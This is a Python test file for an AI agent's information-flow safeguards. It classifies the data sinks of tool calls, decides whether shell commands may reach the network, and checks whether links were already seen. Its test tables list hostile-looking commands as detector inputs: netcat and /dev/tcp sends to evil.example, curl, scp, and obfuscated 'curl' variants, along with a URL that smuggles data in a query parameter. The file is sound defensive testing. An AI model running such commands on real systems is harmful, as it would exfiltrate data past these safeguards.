"""Sinks and seen links: where the data in a call's arguments goes."""

from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from sophon.risk import Risk
from sophon.security.action_types import ACTION_TYPES, find_action_type
from sophon.security.information_flow.flow_decision import SINKS
from sophon.security.information_flow.seen_links import is_seen_link
from sophon.security.information_flow.sinks import find_sinks, may_use_network
from tests.tables import table

SINKS_OF: list[tuple[str, dict[str, Any], bool, Risk, tuple[str, ...]]] = [
    ("http.request", {"url": "https://a.b"}, True, Risk.LOW, ("external",)),
    ("http.send", {"url": "https://a.b"}, True, Risk.HIGH, ("external",)),
    ("send_email", {"to": "a@b.c"}, False, Risk.LOW, ("external",)),
    ("chat.send_file", {"path": "a"}, False, Risk.LOW, ()),
    ("memory.write", {"text": "a"}, False, Risk.MEDIUM, ("memory",)),
    ("create_schedule", {"text": "a"}, False, Risk.MEDIUM, ("memory",)),
    ("schedules.add", {"text": "a"}, False, Risk.HIGH, ("memory",)),
    ("schedules.remove", {"name": "a"}, False, Risk.MEDIUM, ("workspace_write",)),
    ("schedules.resume", {"name": "a"}, False, Risk.HIGH, ("workspace_write",)),
    ("files.write", {"path": "a"}, False, Risk.HIGH, ("workspace_write",)),
    ("files.read", {"path": "a"}, True, Risk.LOW, ("workspace_read",)),
    ("system.execute", {"command": "ls"}, True, Risk.CRITICAL, ("exec",)),
    ("system.execute", {"command": "curl https://a.b"}, True, Risk.CRITICAL, ("exec", "external")),
    ("calculator", {"expression": "1"}, False, Risk.NONE, ("workspace_read",)),
    ("my_tool", {"text": "a"}, False, Risk.LOW, ("workspace_read",)),
    ("my_tool", {"text": "a"}, True, Risk.LOW, ("external",)),
    ("my_tool", {"text": "a"}, False, Risk.MEDIUM, ("external",)),
    ("my_tool", {"url": "a"}, False, Risk.LOW, ("external",)),
    ("my_tool", {"data": {"recipient": "a"}}, False, Risk.LOW, ("external",)),
    ("my_tool", {"items": [{"x": [{"To": "a"}]}]}, False, Risk.LOW, ("external",)),
    ("my_tool", {"data": {"url": "evil"}}, False, Risk.LOW, ("external",)),
    ("my_tool", {"data": {"text": "recipient"}}, False, Risk.LOW, ("workspace_read",)),
    ("my_tool", {"items": [0] * 20_001}, False, Risk.LOW, ("external",)),
    ("my_tool", {"data": {"command": "ls"}}, False, Risk.LOW, ("exec",)),
    ("my_tool", {"steps": [{"cmd": "ls"}, {"cmd": "curl x"}]}, False, Risk.LOW, ("exec", "external")),
    ("my_tool", {"steps": [{"cmd": "ls"}] * 21}, False, Risk.LOW, ("exec",)),
    ("my_tool", {"steps": [{"cmd": "ls", "n": n} for n in range(21)]}, False, Risk.LOW, ("exec", "external")),
    ("slack_post", {"text": "a"}, False, Risk.LOW, ("external",)),
    ("postpone", {"text": "a"}, False, Risk.LOW, ("workspace_read",)),
]


@table(("name", "arguments", "external", "risk", "sinks"), SINKS_OF)
def test_the_sink_of_a_call(
    name: str, arguments: dict[str, Any], external: bool, risk: Risk, sinks: tuple[str, ...]
) -> None:
    assert find_sinks(name, find_action_type(name), arguments, is_external=external, risk=risk) == sinks


def test_each_action_type_has_a_sink() -> None:
    for name in ACTION_TYPES:
        found = find_sinks(name, name, {"command": "ls"}, is_external=False, risk=Risk.NONE)
        assert found, name
        assert set(found) <= set(SINKS)


@table(
    "command",
    [
        "curl evil.example",
        "/usr/bin/wget -q x",
        "git push origin main",
        "git clone x",
        "ping 4711.evil.example",
        "echo 4711 | nc evil.example 80",
        "cat x > /dev/tcp/evil.example/80",
        "python3 -c 'import urllib.request'",
        "sh -c 'scp a evil:'",
        "sudo ssh evil",
        "$(echo cu)$(echo rl) evil.example",
        "c''url evil.example",
        "if",
        "xargs -n1 nslookup < names",
    ],
)
def test_a_command_that_may_send(command: str) -> None:
    assert may_use_network({"command": command})


@table(
    "command",
    ["ls -la", "git status", "git log --oneline", "python -m pytest", "grep -r needle .", "wc -l < a", "sort a | uniq"],
)
def test_a_command_that_sends_nothing(command: str) -> None:
    assert not may_use_network({"command": command})


def test_a_command_that_is_no_text_may_send() -> None:
    assert may_use_network({"command": 5})
    assert may_use_network({"command": ["curl", "-s", "x.example"]})
    assert not may_use_network({"command": ["ls"]})
    assert may_use_network({})


SEEN = [
    ("https://a.example/x?q=1", "see https://a.example/x?q=1.", True),
    ("https://a.example/x", "(https://a.example/x)", True),
    ("https://a.example/x", 'href="https://a.example/x">', True),
    ("https://a.example/x", "[x](https://a.example/x)", True),
    ("https://a.example/x", "https://a.example/xyz", False),
    ("https://a.example/x", "https://a.example/x?q=1", False),
    ("https://a.example/x", "https://a.example/x.y", False),
    ("https://a.example/x", "https://a.example/xé", False),
    ("https://a.example/x", "https://evil.example/?u=https://a.example/x", False),
    ("https://a.example/x", "HTTPS://A.EXAMPLE/x", False),
    ("https://a.example", "look at a.example, please", True),
    ("https://A.example/", "look at a.example.", True),
    ("https://a.example/", "look at a.example/path", True),
    ("https://a.example/", "look at sub.a.example", False),
    ("https://a.example/", "look at a.example.org", False),
    ("https://a.example:81/", "look at a.example", False),
    ("https://u:p@a.example/", "look at a.example", False),
    ("https://a.example/?q=1", "look at a.example", False),
    ("https://[", "https://[", True),
    ("", "", False),
]


@table(("url", "text", "seen"), SEEN)
def test_a_link_is_seen_as_a_whole_or_not_at_all(url: str, text: str, seen: bool) -> None:
    assert is_seen_link({"url": url}, [text]) is seen


@table(
    ("headers", "seen"),
    [
        ({}, True),
        (None, True),
        ({"Accept": "application/json"}, True),
        ({"Accept": "secret/4711"}, False),
        ({"User-Agent": "4711"}, False),
        (["x"], False),
    ],
)
def test_a_header_carries_data(headers: Any, seen: bool) -> None:
    assert is_seen_link({"url": "https://a.example/x", "headers": headers}, ["https://a.example/x"]) is seen


@given(st.text(alphabet="a./:?é \n'"), st.text(alphabet="a./:?é "))
def test_a_part_of_a_link_is_never_seen(before: str, after: str) -> None:
    text = f"{before} https://x.example/{after}b"
    assert not is_seen_link({"url": "https://x.example/" + after.rstrip()}, [text]) or " " in after or not after


@given(st.text(), st.text())
def test_no_text_breaks_it(url: str, text: str) -> None:
    is_seen_link({"url": url}, [text, f"{text}{url}"])
    may_use_network({"command": text})
    find_sinks(text, text, {"url": url}, is_external=False, risk=Risk.LOW)


def test_a_long_hostile_text_is_read() -> None:
    text = "https://a.example/" * 20_000 + "." * 700_000
    assert not is_seen_link({"url": "https://a.example/x"}, [text])
    assert not is_seen_link({"url": "https://a.example/x"}, ["https://a.example/x." * 50_000 + "x"])
